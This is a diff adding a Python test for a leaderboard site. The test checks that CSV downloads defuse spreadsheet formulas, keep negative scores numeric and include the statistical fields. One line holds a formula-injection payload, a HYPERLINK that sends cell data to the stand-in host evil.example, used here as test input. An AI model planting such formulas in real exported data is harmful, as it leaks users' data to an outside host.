@@ -199,3 +199,30 @@ def test_pr_comment_names_the_leader_the_site_marks() -> None:
     row = standing(task, named("c-new", "New", -0.05), committed)
     assert row.previous_leader == "Zed"
     assert row.tier == "below leader"
+
+
+def test_site_downloads_neutralise_formulas_and_hold_the_tests(tmp_path: Path) -> None:
+    """The files the site publishes: a hostile model name is inert text in the CSV, a
+    negative score stays a number, and the tests against the leader are there."""
+    import json
+
+    from leaderboard.site.render import write_downloads
+
+    a, b = _uneven_pair()
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    a = a.model_copy(update={"model": ModelInfo(name=hostile)})
+    b = _system("b", {t: {q: v - 1.0 for q, v in s.per_query["IRS"].items()}
+                      for t, s in b.tasks.items()})  # negative IRS
+    table = _table_of([a, b])
+    write_downloads(table, tmp_path)
+    with (tmp_path / f"{table.view.anchor}.csv").open(encoding="utf-8") as fh:
+        records = {r["system_id"]: r for r in csv.DictReader(fh)}
+    assert records["a"]["model"] == "'" + hostile
+    assert float(records["b"]["IRS"]) < 0 and not records["b"]["IRS"].startswith("'")
+    assert float(records["b"]["IRS effect_vs_leader"]) < 0
+    for field in ("p_value", "p_adjusted", "ci_low", "ci_high"):
+        assert records["b"][f"IRS {field}"] != ""
+    doc = json.loads((tmp_path / f"{table.view.anchor}.json").read_text(encoding="utf-8"))
+    row = next(r for r in doc["rows"] if r["system_id"] == "a")
+    assert row["model"] == hostile  # JSON is data, not a spreadsheet: kept as is
+    assert "each query once" in doc["statistic"]
